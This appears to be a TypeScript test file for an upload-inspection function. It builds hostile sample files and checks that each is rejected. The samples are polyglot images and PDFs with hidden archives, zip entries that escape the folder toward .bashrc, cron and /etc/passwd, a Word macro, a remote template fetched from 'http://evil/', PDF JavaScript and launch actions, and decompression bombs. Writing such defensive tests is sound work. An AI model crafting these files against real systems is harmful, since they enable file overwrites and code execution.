import { strToU8, type Zippable, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { encode } from '#images'
import { PDFDocument, PDFName, PDFString } from '#pdf-lib'
import { DEFAULT_UPLOAD_CONTROLS, type UploadControls } from '../../policy/upload-controls.js'
import { inspectUpload } from './inspect-upload.js'

const BLOCK: UploadControls = { ...DEFAULT_UPLOAD_CONTROLS, activeContentBlockOrWarn: 'block' }
const zip = (files: Record<string, string | Uint8Array>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(files).map(([name, content]) => [
        name,
        typeof content === 'string' ? strToU8(content) : content,
      ]),
    ) as Zippable,
  )
const png = () => encode({ width: 2, height: 2, data: new Uint8Array(16) })
const after = (first: Uint8Array, second: Uint8Array) => Buffer.concat([first, second])

async function pdf(change: (made: PDFDocument) => void = () => {}) {
  const made = await PDFDocument.create()
  made.addPage([200, 200])
  change(made)
  return made.save({ useObjectStreams: false })
}

/** A zip whose only entry is a symbolic link out of the folder. */
function linkZip() {
  const made = Buffer.from(zip({ link: '/etc/passwd' }))
  made.writeUInt32LE(0xa1ff_0000, made.lastIndexOf('PK\x01\x02') + 38)
  return made
}

/** A program that is larger than what is held in memory to look into. */
function largeEntry() {
  const program = Buffer.alloc(65 * 1_048_576, 'MZ')
  return zipSync({ 'setup.exe': [program, { level: 0 }] })
}

/** One file each: what it is, what it is called, and the check that stops it. */
const ATTACKS: readonly [string, string, () => Uint8Array | Promise<Uint8Array>, string][] = [
  [
    'a picture that is an archive too',
    'cat.png',
    () => after(png(), zip({ 'run.exe': 'MZ' })),
    'mime_type_mismatch',
  ],
  [
    'a PDF that is an archive too',
    'a.pdf',
    async () => after(await pdf(), zip({ a: 'a' })),
    'mime_type_mismatch',
  ],
  [
    'a text that is an archive too',
    'a.txt',
    () => after(strToU8('words\n'), zip({ a: 'a' })),
    'mime_type_mismatch',
  ],
  [
    'such a picture in a zip',
    'a.zip',
    () => zip({ 'cat.png': after(png(), zip({ a: 'a' })) }),
    'active_content_blocked',
  ],
  [
    'a program in three archives',
    'a.zip',
    () => zip({ 'b.zip': zip({ 'c.zip': zip({ 'x.exe': 'MZ' }) }) }),
    'active_content_blocked',
  ],
  ['names that leave the folder', 'a.zip', () => zip({ '../../.bashrc': 'alias' }), 'active_content_blocked'],
  ['names from the root', 'a.zip', () => zip({ '/etc/cron.d/x': '* * * * *' }), 'active_content_blocked'],
  ['names with backslashes', 'a.zip', () => zip({ '..\\..\\start.txt': 'x' }), 'active_content_blocked'],
  ['a link out of the folder', 'a.zip', linkZip, 'active_content_blocked'],
  ['a program too large to look into', 'a.zip', largeEntry, 'active_content_blocked'],
  [
    'macros under another name',
    'a.docx',
    () => zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': '<d/>', 'word/vbaProject.bin': 'x' }),
    'active_content_blocked',
  ],
  [
    'a template that is fetched',
    'a.docx',
    () =>
      zip({
        '[Content_Types].xml': '<Types/>',
        'word/document.xml': '<d/>',
        'word/_rels/settings.xml.rels':
          '<Relationship TargetMode="External" Type="http://x/attachedTemplate" Target="http://evil/"/>',
      }),
    'active_content_blocked',
  ],
  [
    'a script of a PDF',
    'a.pdf',
    () => pdf(made => made.addJavaScript('x', 'app.alert(1)')),
    'active_content_blocked',
  ],
  [
    'a program that a PDF starts',
    'a.pdf',
    () =>
      pdf(made =>
        made.catalog.set(
          PDFName.of('OpenAction'),
          made.context.obj({ S: 'Launch', F: PDFString.of('calc.exe') }),
        ),
      ),
    'active_content_blocked',
  ],
  [
    'a file within a PDF',
    'a.pdf',
    () => pdf(made => made.catalog.set(PDFName.of('Names'), made.context.obj({ EmbeddedFiles: {} }))),
    'active_content_blocked',
  ],
  [
    'an ordinary bomb',
    'a.zip',
    () => zip({ 'a.txt': new Uint8Array(20 * 1_048_576) }),
    'decompression_bomb_detected',
  ],
  [
    'many small bombs',
    'a.zip',
    () =>
      zip(Object.fromEntries(Array.from({ length: 40 }, (_, at) => [`${at}.txt`, new Uint8Array(524_288)]))),
    'decompression_bomb_detected',
  ],
  [
    'a bomb as a Word file',
    'a.docx',
    () => zip({ '[Content_Types].xml': '<Types/>', 'word/document.xml': new Uint8Array(20 * 1_048_576) }),
    'decompression_bomb_detected',
  ],
  ['the wrong first bytes', 'a.pdf', () => strToU8('MZ\x90\0program'), 'mime_type_mismatch'],
  ['an ending that hides another', 'invoice.pdf.exe', () => strToU8('%PDF-1.7'), 'mime_type_mismatch'],
  [
    'an encrypted archive',
    'a.7z',
    () => Buffer.from('377abcaf271c0004', 'hex'),
    'decompressed_size_exceeds_cap',
  ],
]

describe('attacks by a file that is sent in', () => {
  it.each(ATTACKS)('[ST-7] %s (%s)', async (_, name, make, failure) => {
    expect((await inspectUpload(await make(), name, null, BLOCK)).failure).toBe(failure)
  })
})
